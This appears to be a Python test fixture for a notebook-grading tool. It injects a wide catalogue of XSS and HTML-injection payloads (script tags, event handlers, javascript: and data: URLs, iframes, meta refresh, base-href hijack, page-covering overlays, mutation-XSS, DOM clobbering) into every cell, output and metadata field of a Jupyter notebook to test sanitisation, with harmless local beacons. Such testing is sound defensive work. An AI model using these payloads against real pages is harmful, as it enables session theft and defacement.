"""A marked notebook that attacks whoever opens a page made from it.

Each payload counts itself in `window.hit`, or asks `127.0.0.1:9`, where nobody listens.
All of it passes nbformat's schema, as whatever grading stores does.
"""

from __future__ import annotations

from typing import Any

ELSEWHERE = "http://127.0.0.1:9"
HIT = f'window.hit=(window.hit||0)+1;fetch("{ELSEWHERE}/hit")'
SCRIPT = f"<script>{HIT}</script><img src=x onerror='{HIT}'>"
COVER = "position:fixed;inset:0;z-index:99999;background:red"

MARKDOWN = [
    f"<script>{HIT}</script>",
    f"<img src=x onerror='{HIT}'>",
    f"<svg onload='{HIT}'><script>{HIT}</script></svg>",
    f"<details open ontoggle='{HIT}'>details</details>",
    f"<input autofocus onfocus='{HIT}'>",
    f"<form action='{ELSEWHERE}/form'><button autofocus onfocus='{HIT}'></form>",
    f"[link](javascript:{HIT})",
    f"<a href='data:text/html,{SCRIPT}'>link</a>",
    f"![remote]({ELSEWHERE}/markdown.png)",
    f"<img src='{ELSEWHERE}/html.png' srcset='{ELSEWHERE}/set.png'>",
    f"<iframe src='{ELSEWHERE}/frame'></iframe>",
    f'<iframe srcdoc="{SCRIPT.replace(chr(34), "&quot;")}"></iframe>',
    f"<video src='{ELSEWHERE}/video' autoplay></video>",
    f"<object data='{ELSEWHERE}/object'></object><embed src='{ELSEWHERE}/embed'>",
    f"<link rel=stylesheet href='{ELSEWHERE}/link.css'>",
    f"<style>@import '{ELSEWHERE}/import.css'; body {{ display: none }}</style>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/refresh'>",
    f"<base href='{ELSEWHERE}/'>",
    f"<div style='{COVER}'>COVER</div>",
    "<div class='navbar-fixed-top modal-backdrop' style='margin:-2000px'>COVER</div>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{SCRIPT}'>",
    f"$\\text{{{SCRIPT}}}$ and $${SCRIPT}$$",
    f"![{SCRIPT}](data:image/png;base64,AAAA)",
    f'![$x$"{SCRIPT}](data:image/png;base64,AAAA "{SCRIPT}")',
    f'<img src="data:image/png;base64,AAAA" alt="> {SCRIPT}">',
    f'<img alt="> {SCRIPT}">',
    "![evil](attachment:evil.html) ![missing](attachment:missing.png)",
    f"```<script>\n{SCRIPT}\n```",
    f"```mermaid\n</pre>{SCRIPT}\n```",
    f"# {SCRIPT}",
    "<p id='why' name='top'>clobbers</p>",
]


def _shown(kind: str, data: Any, metadata: dict[str, Any] | None = None) -> Any:
    return {
        "output_type": "display_data",
        "data": {kind: data},
        "metadata": metadata or {},
    }


OUTPUTS = [
    _shown("text/html", SCRIPT),
    _shown("text/html", SCRIPT, {"text/html": {"isolated": True}}),
    _shown("text/html", f"<div style='{COVER}'>COVER</div>"),
    _shown("text/markdown", SCRIPT),
    _shown("text/latex", SCRIPT),
    _shown("application/javascript", HIT),
    _shown("application/vnd.jupyter.widget-view+json", {"model_id": SCRIPT}),
    _shown("text/vnd.mermaid", f"</pre>{SCRIPT}"),
    _shown("image/png", f'"><script>{HIT}</script>'),
    _shown("image/png", "AAAA", {"filenames": {"image/png": f"{ELSEWHERE}/name.png"}}),
    _shown("image/png", "AAAA", {"image/png": {"width": f"1 onerror={HIT}"}}),
    _shown(
        "image/svg+xml",
        f"<svg xmlns='http://www.w3.org/2000/svg' onload='{HIT}'><script>{HIT}"
        f"</script><image href='{ELSEWHERE}/svg.png'/></svg>",
    ),
    {"output_type": "stream", "name": "stdout", "text": SCRIPT},
    {"output_type": "error", "ename": SCRIPT, "evalue": SCRIPT, "traceback": [SCRIPT]},
]


def attack(notebook: dict[str, Any]) -> dict[str, Any]:
    """Put every payload into a marked notebook; returns it."""
    cells = notebook["cells"]
    tags = {"tags": [f'"><script>{HIT}</script>']}
    attachments = {"evil.html": {"text/html": SCRIPT}}
    for number, source in enumerate(MARKDOWN):
        cells.append(
            {
                "cell_type": "markdown",
                "id": f"markdown-{number}",
                "metadata": tags,
                "attachments": attachments,
                "source": source,
            }
        )
        # An answer that a person marks is shown by another part of the template.
        answer = next(c for c in cells if c.get("id") == "why")
        answer["source"] += f"\n\n{source}"
    cells.append(
        {
            "cell_type": "raw",
            "id": "raw",
            "metadata": {"raw_mimetype": "text/html"},
            "source": SCRIPT,
        }
    )
    for number, output in enumerate(OUTPUTS):
        cells.append(
            {
                "cell_type": "code",
                "id": f"code-{number}",
                "metadata": tags,
                "execution_count": 1,
                "source": f"'</pre>{SCRIPT}'",
                "outputs": [output],
            }
        )
    notebook["metadata"] |= {
        "title": SCRIPT,
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": SCRIPT}},
        "dlcourse": {"events": [f"{SCRIPT} $x$ *was taken*"], "flags": []},
    }
    return notebook
